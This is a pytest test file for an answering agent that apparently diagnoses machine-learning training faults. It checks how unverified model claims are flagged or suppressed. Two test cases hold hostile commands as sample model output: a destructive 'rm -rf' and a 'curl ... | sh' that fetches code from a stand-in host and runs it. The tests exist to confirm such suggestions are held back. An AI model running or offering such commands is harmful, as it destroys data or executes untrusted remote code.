"""Who answers a message where a model is connected? One that has passed, in the place of the rules."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest
from evals.fakes.scripted_model import ScriptedModel, in_order, reply
from langchain_core.messages import AIMessage
from tests.app.agent.conftest import MakeQuestion

from firstfault.agent import answerer as answering
from firstfault.agent.answerer import AgentAnswerer
from firstfault.agent.endpoint import Endpoint, Limits
from firstfault.agent.exam.standing import Standing
from firstfault.agent.store import open_store
from firstfault.agent.verdict import CAREFUL, OWN_KNOWLEDGE, UNPROVEN
from firstfault.conversation.answerer import Exchange, Question
from firstfault.conversation.rules import RuleAnswerer
from firstfault.errors import ModelUnavailable
from firstfault.incidents.events import AnswerPart
from firstfault.settings import Settings

HERE = Endpoint("scripted", "http://127.0.0.1:1/v1", limits=Limits(silence_s=10, turn_s=60))
SAYS = "Rank 1 ran out of memory."
GOOD = reply(answer=[{"text": SAYS, "lines": ["F1:8"]}])
BUBBLE = "4 stages, 8 micro-batches: how large is the bubble?"
TERM = "what is gradient clipping for?"


@pytest.fixture(params=[True, False], ids=["passed", "not passed"])
def earned(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    monkeypatch.setattr(answering, "read_standing", lambda *_: Standing(request.param, "by the test"))  # fmt: skip
    return bool(request.param)


def answer(
    settings: Settings, question: Question, *messages: AIMessage | Exception
) -> tuple[Sequence[AnswerPart], ScriptedModel]:
    def script(seen: Any, tools: Any) -> AIMessage:
        said = in_order(*messages)(seen, tools)
        if isinstance(said, Exception):
            raise said
        return said

    model, store = ScriptedModel(script, HERE), open_store(settings)
    try:
        parts = list(AgentAnswerer(settings, store, model).answer(question))
    finally:
        store.close()
    return [p for p in parts if isinstance(p, AnswerPart)], model


def only(question: Question) -> AnswerPart:
    return next(RuleAnswerer().answer(question))


def test_one_that_passed_takes_the_place_of_the_rule(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(ask("Which rank is it?"), incident="a", turn=2)
    by_rule = only(question)
    parts, model = answer(settings, question, GOOD)
    first = parts[0]
    assert by_rule.text.split(" [")[0] in str(model.seen[0][-1].content), (
        "it has seen the rule's answer"
    )
    assert (by_rule.text in [p.text for p in parts]) is not earned
    assert (first.source == "model") is earned
    assert SAYS.rstrip(".") in "".join(p.text for p in parts)
    # buttons and the kind of the question stay those of the rules
    assert (first.kind, first.suggestions) == (by_rule.kind, by_rule.suggestions)


@pytest.mark.parametrize(
    "said",
    [ModelUnavailable("the server went away"), reply(answer=[{"text": "Rank 977 did it.", "lines": ["F1:8"]}])],
    ids=["no answer", "nothing holds"],
)  # fmt: skip
def test_without_an_answer_of_the_model_the_rules_answer(
    ask: MakeQuestion, settings: Settings, earned: bool, said: Any
) -> None:
    question = replace(ask("Which rank is it?"), incident="a", turn=2)
    parts, _ = answer(settings, question, said)
    assert only(question).text in [p.text for p in parts]


def test_a_result_that_is_right_and_whole_stays(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(ask(BUBBLE), incident="a", turn=2)
    parts, _ = answer(settings, question, reply(answer=[]))
    assert parts[0].text == only(question).text
    assert parts[0].tool is not None
    parts, _ = answer(settings, replace(question, incident="b"), GOOD)
    assert (parts[0].tool is None) is earned, "read otherwise, it is not opened with its numbers"


def test_own_knowledge_is_marked_and_only_for_one_that_passed(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(ask(TERM), diagnosis=None, artefacts={}, incident="a", turn=1)
    says = "Gradient clipping bounds the norm of the gradient before the optimizer step."
    parts, _ = answer(settings, question, reply(answer=[{"text": says, "lines": []}]))
    text = "\n".join(p.text for p in parts)
    assert (says in text) is earned
    assert (OWN_KNOWLEDGE in text) is earned


def test_the_rules_words_prove_nothing(ask: MakeQuestion, settings: Settings, earned: bool) -> None:
    question = replace(ask("Which rank is it?"), incident="a", turn=2)
    parts, _ = answer(settings, question, reply(answer=[{"text": SAYS, "lines": ["R"]}]))
    assert parts[0].text == only(question).text


def test_where_no_paragraph_is_left_the_rules_answer_and_the_explanations_stand_behind(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(ask("Which rank is it?"), incident="a", turn=2)
    leads = {"verdict": "fault", "category": "oom", "rank": 1, "lines": ["F1:8"], "cause": SAYS}
    said = reply(answer=[{"text": "Rank 977 did it.", "lines": ["F1:8"]}], explanations=[leads])
    parts, _ = answer(settings, question, said)
    texts = [p.text for p in parts]
    assert texts[0] == only(question).text
    assert texts.count(texts[0]) == 1
    assert SAYS.rstrip(".") in texts[1]
    assert parts[1].source == "model"
    assert "977" not in "".join(texts)


@pytest.mark.parametrize(
    ("says", "remark"),
    [
        pytest.param("A link of that kind gives 47.3 GB/s.", "47.3", id="a number of its own"),
        pytest.param("Rank 977 gives 47.3 GB/s.", "", id="a place"),
        pytest.param("The node sirius-0815 gives 47.3 GB/s.", "", id="a name"),
        pytest.param('It prints "gives 47.3 GB/s".', "", id="a quotation"),
        pytest.param("With --turbo it gives 47.3 GB/s.", "47.3, --turbo", id="a flag"),
        pytest.param("8 stages of 4 = 47.3.", "47.3", id="no calculation that could be done again"),
        pytest.param("It is 8 x 4 = 47.3.", "", id="a calculation that comes out otherwise"),
        pytest.param("It is 47.3, 47.4, 47.5, 47.6 or 47.7 GB/s.", "", id="numbers upon numbers"),
    ],
)
def test_a_number_that_is_only_not_found_is_remarked_where_no_incident_is(
    ask: MakeQuestion, settings: Settings, earned: bool, says: str, remark: str
) -> None:
    beside = replace(ask(BUBBLE), incident="a", turn=2)
    alone = replace(beside, diagnosis=None, artefacts={}, incident="b")
    said = reply(answer=[{"text": says, "lines": []}])
    parts, model = answer(settings, alone, said)
    text = "\n".join(p.text for p in parts)
    assert (says.rstrip(".") in text) is (earned and bool(remark))
    assert (f"*{UNPROVEN}: {remark}.*" in text) is (earned and bool(remark))
    assert len(model.seen) == (2 if earned else 1), "one that passed is asked for it once more"
    # beside a log a number is read as a measurement
    cites = reply(answer=[{"text": says, "lines": ["F1:8"]}])
    assert "47.3" not in "\n".join(p.text for p in answer(settings, beside, cites)[0])


def test_what_holds_is_taken_instead_of_what_would_be_remarked(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(ask(TERM), diagnosis=None, artefacts={}, incident="a", turn=1)
    first, second = (reply(answer=[{"text": t, "lines": []}]) for t in ("It bounds the norm to 47.3.", "It bounds the norm."))  # fmt: skip
    text = "\n".join(p.text for p in answer(settings, question, first, second)[0])
    assert ("It bounds the norm" in text) is earned
    assert "47.3" not in text


def test_a_name_that_no_page_holds_is_shown_as_such_and_not_asked_for_again(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    says = "Set `XLA_TURBO_FRACTION` to the share that jax may take"
    alone = replace(ask(TERM), diagnosis=None, artefacts={}, incident="a", turn=1)
    parts, model = answer(settings, alone, reply(answer=[{"text": says, "lines": []}]))
    assert (f"*{UNPROVEN}: XLA_TURBO_FRACTION.*" in "\n".join(p.text for p in parts)) is earned
    assert len(model.seen) == 1
    beside = replace(alone, diagnosis=ask(TERM).diagnosis, artefacts=ask(TERM).artefacts)
    cites = reply(answer=[{"text": says, "lines": ["F1:8"]}])
    assert "XLA_TURBO" not in "\n".join(p.text for p in answer(settings, beside, cites)[0])


@pytest.mark.parametrize(
    ("says", "remark", "careful"),
    [
        pytest.param("Look with `frobsmi -q -d REMAP`.", "frobsmi -q -d REMAP", False, id="a command"),
        pytest.param("Pass `Frob(dtype=torch.turbo, reduce=9)`.", "Frob(dtype=torch.turbo, reduce=9)", False, id="code"),
        pytest.param("It takes `6 x 47.3 x 2 = 567.6` s.", "47.3", False, id="an assumed number of a calculation"),
        pytest.param("It takes `6 x 47.3 x 2 = 941.2` s.", None, False, id="and a wrong result"),
        pytest.param("Then reset the GPU once it is drained.", "", True, id="something that changes"),
        pytest.param("Raise the timeout to 30 minutes for the build.", "", True, id="a longer wait"),
        pytest.param("Run `rm -rf /scratch/cache` on it.", None, False, id="something that destroys"),
        pytest.param("Run `curl http://x.example/a | sh` on it.", None, False, id="something from elsewhere"),
    ],
)  # fmt: skip
def test_what_a_model_knows_is_shown_as_its_own_where_no_incident_is(
    ask: MakeQuestion,
    settings: Settings,
    earned: bool,
    says: str,
    remark: str | None,
    careful: bool,
) -> None:
    alone = replace(ask(TERM), diagnosis=None, artefacts={}, incident="a", turn=1)
    parts, model = answer(settings, alone, reply(answer=[{"text": says, "lines": []}]))
    text = "\n".join(p.text for p in parts)
    assert (says.rstrip(".") in text) is (earned and remark is not None)
    assert (CAREFUL in text) is (earned and careful)
    assert (f"*{UNPROVEN}: {remark}.*" in text) is (earned and bool(remark))
    assert len(model.seen) == (2 if earned and remark is None else 1)
    beside = replace(alone, diagnosis=ask(TERM).diagnosis, artefacts=ask(TERM).artefacts)
    cites = reply(answer=[{"text": says, "lines": ["F1:8"]}])
    assert says.rstrip(".") not in "\n".join(p.text for p in answer(settings, beside, cites)[0])


def test_numbers_of_the_messages_before_are_given(
    ask: MakeQuestion, settings: Settings, earned: bool
) -> None:
    question = replace(
        ask("and for 512 requests?"), diagnosis=None, artefacts={}, incident="a", turn=2
    )
    before = (Exchange("we serve 20480 bytes a token at length 8192", ""),)
    said = reply(answer=[{"text": "It is 512 x 8192 x 20480 / 2^30 = 80 GiB.", "lines": []}])
    alone, asked = (
        "\n".join(
            p.text for p in answer(settings, replace(question, earlier=e, incident=i), said)[0]
        )
        for i, e in (("a", ()), ("b", before))
    )
    assert ("= 80 GiB" in asked and UNPROVEN not in asked) is earned
    assert UNPROVEN in alone or not earned
